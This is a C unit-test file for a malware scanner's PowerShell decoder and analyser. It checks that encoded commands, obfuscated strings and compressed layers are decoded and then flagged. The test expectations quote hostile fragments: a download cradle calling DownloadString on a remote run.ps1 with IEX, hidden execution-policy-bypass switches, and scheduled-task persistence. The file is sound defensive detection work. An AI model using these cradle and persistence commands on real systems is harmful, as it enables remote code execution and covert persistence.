@@ -1,0 +1,353 @@
+/*
+ * test_powershell.c — the PowerShell decoder (src/files/ps_decode.c) and
+ * analyser (an_powershell.c) on scripts made by
+ * tests/gen/gen_powershell.py and on inline strings.
+ */
+#include "core/compat.h"
+
+#include <setjmp.h>
+#include <cmocka.h>
+
+#include "core/core.h"
+#include "files/analyser.h"
+#include "files/ps_decode.h"
+
+extern const struct file_analyser file_analyser_powershell;
+
+/* --- harness: runs an analyser through a real output and scan ctx ------ */
+#define CAP_ALERTS 16
+struct cap {
+	char alerts[CAP_ALERTS][16384];
+	int n;
+	int partials;
+};
+
+static int cap_alert(void *st, const struct mm_alert *a, const char *json, size_t len)
+{
+	struct cap *c = st;
+
+	(void)a;
+	if (c->n < CAP_ALERTS) {
+		snprintf(c->alerts[c->n], sizeof c->alerts[0], "%.*s", (int)len, json);
+		c->n++;
+	}
+	return 0;
+}
+
+static int cap_skip(void *st, const char *path, enum mm_skip why, bool partial,
+		    const char *detail)
+{
+	struct cap *c = st;
+
+	(void)path;
+	(void)why;
+	(void)detail;
+	if (partial)
+		c->partials++;
+	return 0;
+}
+
+static uint8_t *load_file(const char *path, size_t *len)
+{
+	FILE *f = fopen(path, "rb");
+	uint8_t *buf;
+	long n;
+
+	if (!f)
+		fail_msg("cannot open %s", path);
+	assert_int_equal(fseek(f, 0, SEEK_END), 0);
+	n = ftell(f);
+	assert_true(n >= 0);
+	rewind(f);
+	buf = malloc((size_t)n + 1);
+	assert_non_null(buf);
+	assert_int_equal(fread(buf, 1, (size_t)n, f), (size_t)n);
+	fclose(f);
+	*len = (size_t)n;
+	return buf;
+}
+
+static uint8_t *load_gen(const char *rel, size_t *len)
+{
+	char path[4096];
+	const char *gen = getenv("MAMORI_GEN_DIR");
+
+	assert_non_null(gen);
+	snprintf(path, sizeof path, "%s/%s", gen, rel);
+	return load_file(path, len);
+}
+
+static void run_analyser(const struct file_analyser *an, const char *name, const uint8_t *d,
+			 size_t n, enum mm_kind kind, struct cap *c)
+{
+	struct mm_alert_json_opts opts = { 0, "0.1.0", "test" };
+	struct mm_output *out = mm_output_new(&opts);
+	/* no configuration: analysers must work with their defaults */
+	const struct mm_config *cfg = NULL;
+	struct mm_sink sink = { "cap", c, cap_alert, cap_skip, NULL, NULL, NULL };
+	struct mm_scan_ctx *ctx;
+	struct file_view v;
+	void *w = NULL;
+
+	memset(c, 0, sizeof *c);
+	assert_non_null(out);
+	assert_int_equal(mm_output_add(out, &sink), 0);
+	ctx = mm_scan_ctx_new(out, cfg, true, name);
+	assert_non_null(ctx);
+	memset(&v, 0, sizeof v);
+	v.path = name;
+	v.data = d;
+	v.len = n;
+	v.kind = kind;
+	v.sha256 = "00";
+	v.disk_path = name;
+	if (an->worker_new)
+		w = an->worker_new(cfg);
+	assert_int_equal(an->analyse(w, &v, ctx), 0);
+	if (an->worker_free)
+		an->worker_free(w);
+	mm_scan_ctx_free(ctx);
+	mm_output_free(out);
+}
+
+static struct ps_result r;
+static struct ps_findings f;
+
+static void decode_str(const char *s)
+{
+	ps_result_release(&r);
+	ps_result_init(&r);
+	assert_int_equal(ps_decode(&r, (const uint8_t *)s, strlen(s)), 0);
+	ps_indicators(&r, &f);
+}
+
+static void decode_gen(const char *name)
+{
+	char rel[256];
+	uint8_t *buf;
+	size_t len;
+
+	snprintf(rel, sizeof rel, "powershell/%s", name);
+	buf = load_gen(rel, &len);
+	ps_result_release(&r);
+	ps_result_init(&r);
+	assert_int_equal(ps_decode(&r, buf, len), 0);
+	ps_indicators(&r, &f);
+	free(buf);
+}
+
+static bool layer_has(unsigned i, const char *needle)
+{
+	return i < r.nlayers && strstr(ps_layer_text(&r, i), needle) != NULL;
+}
+
+static void test_encoded_command(void **state)
+{
+	(void)state;
+	/* "Get-Date" in UTF-16LE, behind several spellings of the switch */
+	static const char *const forms[] = {
+		"powershell -e RwBlAHQALQBEAGEAdABlAA==",
+		"powershell -enc RwBlAHQALQBEAGEAdABlAA==",
+		"powershell.exe /EncodedCommand \"RwBlAHQALQBEAGEAdABlAA==\"",
+		"pwsh -EnCoDeDc RwBlAHQALQBEAGEAdABlAA==",
+		"pwsh -ec RwBlAHQALQBEAGEAdABlAA==",
+		"powershell \xe2\x80\x93""enc RwBlAHQALQBEAGEAdABlAA==",
+	};
+	for (size_t i = 0; i < MM_ARRAY_SIZE(forms); i++) {
+		decode_str(forms[i]);
+		assert_int_equal(r.nlayers, 2);
+		assert_int_equal(r.layers[1].how, PS_HOW_ENCODED_COMMAND);
+		assert_string_equal(ps_layer_text(&r, 1), "Get-Date");
+		assert_true(f.ind & PS_I_ENCODED);
+	}
+	/* not switches: -Encoding, -ExecutionPolicy, a word inside a name */
+	decode_str("Get-Content -Encoding UTF8 x; powershell -ep RwBlAHQALQBEAGEAdABlAA==");
+	assert_int_equal(r.nlayers, 1);
+	decode_str("x-enc RwBlAHQALQBEAGEAdABlAA==");
+	assert_int_equal(r.nlayers, 1);
+}
+
+static void test_flags(void **state)
+{
+	static const char cmd[] = "powershell -NoP -NonI -W Hidden -Exec Bypass -c x";
+
+	(void)state;
+	assert_int_equal(ps_flags_of(cmd, sizeof cmd - 1),
+			 PS_I_HIDDEN | PS_I_NOPROFILE | PS_I_NONINTERACTIVE | PS_I_BYPASS);
+	assert_int_equal(ps_flags_of("-WindowStyle Normal -NoLogo", 27), 0);
+}
+
+static void test_layers(void **state)
+{
+	(void)state;
+	decode_gen("gzip_b64.ps1");
+	assert_int_equal(r.nlayers, 2);
+	assert_int_equal(r.layers[1].how, PS_HOW_FROM_BASE64_GZIP);
+	assert_true(layer_has(1, "DownloadString('http://198.51.100.7/run.ps1')"));
+	assert_true(f.ind & PS_I_CRADLE);
+	assert_true(f.ind & PS_I_COMPRESSED);
+
+	decode_gen("deflate_b64.ps1");
+	assert_int_equal(r.layers[1].how, PS_HOW_FROM_BASE64_DEFLATE);
+	assert_true(f.ind & PS_I_CRADLE);
+
+	decode_gen("chararray.ps1");
+	assert_int_equal(r.layers[1].how, PS_HOW_DEOBFUSCATE);
+	assert_true(layer_has(1, "$x = 'IEX'"));
+	assert_true(layer_has(1, "& ('IEX') 'Write-Output 1'"));
+	assert_true(f.ind & PS_I_CRADLE);
+
+	decode_gen("concat.ps1");
+	assert_true(layer_has(1, "New-Object ('Net.WebClient')"));
+	assert_true(layer_has(1, "('DownloadString')"));
+	assert_true(layer_has(1, "& ('IEX') $d"));
+	assert_true(layer_has(1, "INVoKe-ExPrEsSiOn $d"));
+
+	decode_gen("enc_schtask.cmd");
+	assert_true(layer_has(1, "Register-ScheduledTask"));
+	assert_true(f.ind & PS_I_SCHTASK);
+	assert_true(f.ind & PS_I_MINER);
+	assert_true(f.ind & PS_I_HIDDEN);
+	assert_int_equal(f.schtask_layer, 1);
+
+	decode_gen("cradle_utf16.ps1");
+	assert_true(f.ind & PS_I_CRADLE);
+	decode_gen("cradle_utf16_nobom.ps1");
+	assert_true(f.ind & PS_I_CRADLE);
+	decode_gen("enc_prefix.txt");
+	assert_int_equal(r.nlayers, 3);
+	assert_string_equal(ps_layer_text(&r, 2), "Get-Date");
+}
+
+static void test_limits(void **state)
+{
+	(void)state;
+	decode_gen("deep.cmd");
+	assert_true(r.flags & PS_F_DEPTH_LIMIT);
+	assert_int_equal(r.nlayers, PS_MAX_DEPTH + 1);
+
+	decode_gen("gzip_bomb.ps1");
+	assert_true(r.flags & (PS_F_RATIO_LIMIT | PS_F_OUTPUT_LIMIT));
+	assert_true(r.text.len <= PS_MAX_OUTPUT + 64);
+
+	decode_gen("bad_utf16.ps1");
+	assert_true(r.flags & PS_F_BAD_UTF16);
+	assert_true(f.ind & PS_I_CRADLE);
+
+	/* unterminated literals and lone switches */
+	decode_str("'a'+'b");
+	decode_str("[char[]](1,2,");
+	decode_str("[char]99999999999+");
+	decode_str("-enc");
+	decode_str("FromBase64String('!!!!')");
+	assert_true(r.flags & PS_F_BAD_BASE64);
+}
+
+static void test_benign_decoding(void **state)
+{
+	(void)state;
+	decode_gen("benign_admin.ps1");
+	assert_false(f.ind & (PS_I_CRADLE | PS_I_SCHTASK | PS_I_ENCODED | PS_I_IEX));
+}
+
+static struct cap c;
+
+static void run_gen(const char *name)
+{
+	char rel[256];
+	uint8_t *buf;
+	size_t len;
+
+	snprintf(rel, sizeof rel, "powershell/%s", name);
+	buf = load_gen(rel, &len);
+	run_analyser(&file_analyser_powershell, name, buf, len, MM_KIND_SCRIPT, &c);
+	free(buf);
+}
+
+static void test_analyser(void **state)
+{
+	(void)state;
+	run_gen("enc_schtask.cmd");
+	assert_int_equal(c.n, 1);
+	assert_non_null(strstr(c.alerts[0], "\"mamori.files.powershell.scheduled-task\""));
+	assert_non_null(strstr(c.alerts[0], "\"level\":\"high\""));
+	assert_non_null(strstr(c.alerts[0], "\"decoder\":\"encodedcommand\""));
+	assert_non_null(strstr(c.alerts[0], "Register-ScheduledTask"));
+
+	run_gen("schtasks.bat");
+	assert_int_equal(c.n, 2);
+	assert_non_null(strstr(c.alerts[0], "\"mamori.files.powershell.download-cradle\""));
+	/* encoded and hidden: critical */
+	assert_non_null(strstr(c.alerts[0], "\"level\":\"critical\""));
+	assert_non_null(strstr(c.alerts[0], "\"url\":\"http://198.51.100.7/run.ps1\""));
+	assert_non_null(strstr(c.alerts[1], "\"mamori.files.powershell.scheduled-task\""));
+
+	run_gen("cradle_plain.ps1");
+	assert_int_equal(c.n, 1);
+	assert_non_null(strstr(c.alerts[0], "\"level\":\"high\""));
+
+	run_gen("concat.ps1");
+	assert_int_equal(c.n, 1);
+	assert_non_null(strstr(c.alerts[0], "download-cradle"));
+	assert_non_null(strstr(c.alerts[0], "\"decoder\":\"deobfuscate\""));
+
+	run_gen("enc_prefix.txt");
+	assert_int_equal(c.n, 1);
+
+	run_gen("benign_admin.ps1");
+	assert_int_equal(c.n, 0);
+
+	run_gen("gzip_bomb.ps1");
+	assert_true(c.partials >= 1);
+}
+
+static void test_wants(void **state)
+{
+	struct file_view v;
+	static const uint8_t u16[] = { 0xff, 0xfe, 'I', 0, 'E', 0, 'X', 0, ' ', 0, '1', 0 };
+
+	(void)state;
+	memset(&v, 0, sizeof v);
+	v.path = "x.bat";
+	v.kind = MM_KIND_SCRIPT;
+	v.data = (const uint8_t *)"@echo off\r\npowershell -nop -c x\r\n";
+	v.len = strlen((const char *)v.data);
+	assert_true(file_analyser_powershell.wants(&v));
+	v.data = u16;
+	v.len = sizeof u16;
+	v.kind = MM_KIND_TEXT;
+	assert_true(file_analyser_powershell.wants(&v));
+	v.data = (const uint8_t *)"#!/bin/sh\necho hello\n";
+	v.len = strlen((const char *)v.data);
+	assert_false(file_analyser_powershell.wants(&v));
+	v.data = (const uint8_t *)"powershell";
+	v.len = 10;
+	v.kind = MM_KIND_PE;
+	assert_false(file_analyser_powershell.wants(&v));
+	/* what we decoded and handed back is not read twice */
+	v.kind = MM_KIND_SCRIPT;
+	v.path = "a.ps1!ps-decoded-1";
+	assert_false(file_analyser_powershell.wants(&v));
+}
+
+static int teardown(void **state)
+{
+	(void)state;
+	ps_result_release(&r);
+	return 0;
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(test_encoded_command),
+		cmocka_unit_test(test_flags),
+		cmocka_unit_test(test_layers),
+		cmocka_unit_test(test_limits),
+		cmocka_unit_test(test_benign_decoding),
+		cmocka_unit_test(test_analyser),
+		cmocka_unit_test(test_wants),
+	};
+	ps_result_init(&r);
+	return cmocka_run_group_tests(tests, NULL, teardown);
+}
